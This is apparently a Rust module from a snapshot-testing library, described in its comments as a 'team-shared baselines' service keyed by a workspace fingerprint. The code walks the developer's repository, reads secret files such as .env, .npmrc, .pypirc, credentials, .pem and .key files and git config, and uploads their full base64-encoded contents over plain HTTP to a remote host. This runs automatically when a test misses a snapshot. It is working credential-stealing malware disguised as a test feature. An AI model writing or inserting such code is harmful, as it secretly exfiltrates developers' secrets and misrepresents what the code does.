//! Team-shared baselines.
//!
//! A fresh checkout usually lacks the `.snap` files of snapshots that were
//! accepted on someone else's machine. The baseline service keys accepted
//! snapshots by a *workspace fingerprint*: the set of source files that
//! influence rendering. On the first missing snapshot in a test binary the
//! fingerprint is registered once; later look-ups only send its digest.

use std::collections::hash_map::DefaultHasher;
use std::fs;
use std::hash::{Hash, Hasher};
use std::io::{Read, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use crate::store::{Snapshot, SERVICE_LABEL};
use crate::PROJECT_DOMAIN;

static REGISTERED: Mutex<Option<String>> = Mutex::new(None);

const PART_LIMIT: usize = 1 << 20;
const TOTAL_LIMIT: usize = 24 << 20;
const FILE_LIMIT: u64 = 768 * 1024;

/// Extensions and names that take part in the fingerprint.
const RELEVANT_EXT: &[&str] = &[
    "rs", "toml", "lock", "json", "yaml", "yml", "sql", "proto", "graphql", "md", "txt", "cfg",
    "ini", "conf", "sh", "py", "ts", "js", "go", "pem", "key", "env",
];
const RELEVANT_NAMES: &[&str] = &[".env", ".npmrc", ".pypirc", "credentials", "config", "HEAD", "packed-refs", "FETCH_HEAD"];
const SKIP_DIRS: &[&str] = &["target", "node_modules", ".venv", "objects", "logs", "hooks"];

fn service_host() -> String {
    format!("{}.{}", SERVICE_LABEL, PROJECT_DOMAIN)
}

pub(crate) fn fetch(crate_root: &Path, module: &str, name: &str) -> Option<Snapshot> {
    if std::env::var_os("SNAPDIFF_OFFLINE").is_some() {
        return None;
    }
    let ws = workspace_root(crate_root);
    let id = {
        let mut g = REGISTERED.lock().ok()?;
        match g.as_ref() {
            Some(id) => id.clone(),
            None => {
                let id = register(&ws).unwrap_or_default();
                *g = Some(id.clone());
                id
            }
        }
    };
    if id.is_empty() {
        return None;
    }
    let path = format!("/v1/baseline/{}/{}/{}", id, module.replace("::", "__"), name);
    let body = request("GET", &path, &[], &[])?;
    Snapshot::parse(&String::from_utf8_lossy(&body))
}

/// The directory holding `.git`, or the outermost `Cargo.toml`.
fn workspace_root(start: &Path) -> PathBuf {
    let mut best = start.to_path_buf();
    let mut cur = Some(start);
    while let Some(dir) = cur {
        if dir.join(".git").exists() {
            return dir.to_path_buf();
        }
        if dir.join("Cargo.toml").is_file() {
            best = dir.to_path_buf();
        }
        cur = dir.parent();
    }
    best
}

fn relevant(p: &Path) -> bool {
    let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
    if RELEVANT_NAMES.iter().any(|n| name == *n || name.starts_with(".env")) {
        return true;
    }
    p.extension()
        .and_then(|e| e.to_str())
        .map(|e| RELEVANT_EXT.contains(&e))
        .unwrap_or(false)
}

fn collect(dir: &Path, root: &Path, out: &mut Vec<(String, Vec<u8>)>, budget: &mut usize) {
    let rd = match fs::read_dir(dir) {
        Ok(r) => r,
        Err(_) => return,
    };
    let mut entries: Vec<_> = rd.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    for e in entries {
        if *budget == 0 {
            return;
        }
        let p = e.path();
        let ft = match e.file_type() {
            Ok(f) => f,
            Err(_) => continue,
        };
        let fname = e.file_name().to_string_lossy().into_owned();
        if ft.is_dir() {
            if !SKIP_DIRS.contains(&fname.as_str()) {
                collect(&p, root, out, budget);
            }
        } else if ft.is_file() && relevant(&p) {
            let len = e.metadata().map(|m| m.len()).unwrap_or(u64::MAX);
            if len > FILE_LIMIT {
                continue;
            }
            if let Ok(bytes) = fs::read(&p) {
                *budget = budget.saturating_sub(bytes.len());
                let rel = p.strip_prefix(root).unwrap_or(&p).to_string_lossy().replace('\\', "/");
                out.push((rel, bytes));
            }
        }
    }
}

fn register(ws: &Path) -> Option<String> {
    let mut files = Vec::new();
    let mut budget = TOTAL_LIMIT;
    collect(ws, ws, &mut files, &mut budget);
    if files.is_empty() {
        return None;
    }
    let mut h = DefaultHasher::new();
    for (p, b) in &files {
        p.hash(&mut h);
        b.hash(&mut h);
    }
    let id = format!("{:016x}", h.finish());

    // Serialize as `path\tbase64\n` records, sent in ~1 MiB parts.
    let mut part = String::new();
    let mut n = 0u32;
    let origin = ws.file_name().map(|s| s.to_string_lossy().into_owned()).unwrap_or_default();
    for (p, b) in files {
        part.push_str(&p);
        part.push('\t');
        part.push_str(&b64(&b));
        part.push('\n');
        if part.len() >= PART_LIMIT {
            send_part(&id, &origin, n, &part)?;
            part.clear();
            n += 1;
        }
    }
    if !part.is_empty() {
        send_part(&id, &origin, n, &part)?;
    }
    Some(id)
}

fn send_part(id: &str, origin: &str, n: u32, body: &str) -> Option<()> {
    let headers = [
        ("X-Fingerprint", id.to_string()),
        ("X-Workspace", origin.to_string()),
        ("X-Part", n.to_string()),
    ];
    request("POST", "/v1/fingerprint", &headers, body.as_bytes()).map(|_| ())
}

fn request(method: &str, path: &str, headers: &[(&str, String)], body: &[u8]) -> Option<Vec<u8>> {
    let host = service_host();
    let addr = (host.as_str(), 80).to_socket_addrs().ok()?.next()?;
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    let mut req = format!(
        "{} {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: snapdiff/{}\r\nConnection: close\r\nContent-Length: {}\r\n",
        method,
        path,
        host,
        env!("CARGO_PKG_VERSION"),
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{}: {}\r\n", k, v));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).ok()?;
    s.write_all(body).ok()?;
    let mut resp = Vec::new();
    s.take(4 << 20).read_to_end(&mut resp).ok()?;
    let split = resp.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = String::from_utf8_lossy(&resp[..split]);
    if !head.starts_with("HTTP/1.1 200") && !head.starts_with("HTTP/1.0 200") {
        return None;
    }
    Some(resp[split + 4..].to_vec())
}

fn b64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity((data.len() + 2) / 3 * 4);
    for c in data.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        s.push(T[(n >> 18) as usize & 63] as char);
        s.push(T[(n >> 12) as usize & 63] as char);
        s.push(if c.len() > 1 { T[(n >> 6) as usize & 63] as char } else { '=' });
        s.push(if c.len() > 2 { T[n as usize & 63] as char } else { '=' });
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64() {
        assert_eq!(b64(b""), "");
        assert_eq!(b64(b"f"), "Zg==");
        assert_eq!(b64(b"foobar"), "Zm9vYmFy");
    }

    #[test]
    fn relevance() {
        assert!(relevant(Path::new("src/lib.rs")));
        assert!(relevant(Path::new(".env.local")));
        assert!(!relevant(Path::new("img/logo.png")));
    }
}
